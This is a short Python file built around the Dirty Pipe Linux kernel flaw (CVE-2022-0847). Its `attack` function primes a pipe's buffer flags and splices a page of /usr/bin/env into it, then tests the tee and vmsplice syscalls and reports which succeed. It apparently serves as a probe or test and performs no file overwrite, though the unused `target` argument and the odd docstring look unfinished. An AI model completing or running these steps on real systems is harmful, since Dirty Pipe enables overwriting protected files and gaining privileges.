"""The pieces of Dirty Pipe (CVE-2022-0847): pages of a file, of one's own, and of another pipe in a pipe."""
import ctypes
import os
import struct

SYS_TEE, SYS_VMSPLICE = {"x86_64": (276, 278), "aarch64": (77, 75)}[os.uname().machine]


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    reader, writer = os.pipe()
    second_reader, second_writer = os.pipe()
    done = []
    # First fill and drain, so that every slot of the pipe may be appended to: without the fix, it stays so.
    os.set_blocking(writer, False)
    try:
        while True:
            os.write(writer, bytes(4096))
    except BlockingIOError:
        pass
    os.read(reader, 1 << 20)
    source = os.open("/usr/bin/env", os.O_RDONLY)
    try:
        os.splice(source, writer, 1, offset_src=1)
        done.append("splice")
    except OSError:
        os.write(writer, b"x")
    if libc.syscall(SYS_TEE, reader, second_writer, ctypes.c_size_t(1), 2) == 1:
        done.append("tee")
    page = ctypes.create_string_buffer(b"x")
    vector = struct.pack("=QQ", ctypes.addressof(page), 1)
    if libc.syscall(SYS_VMSPLICE, writer, vector, ctypes.c_size_t(1), 2) == 1:
        done.append("vmsplice")
    for fd in (reader, writer, second_reader, second_writer, source):
        os.close(fd)
    return done
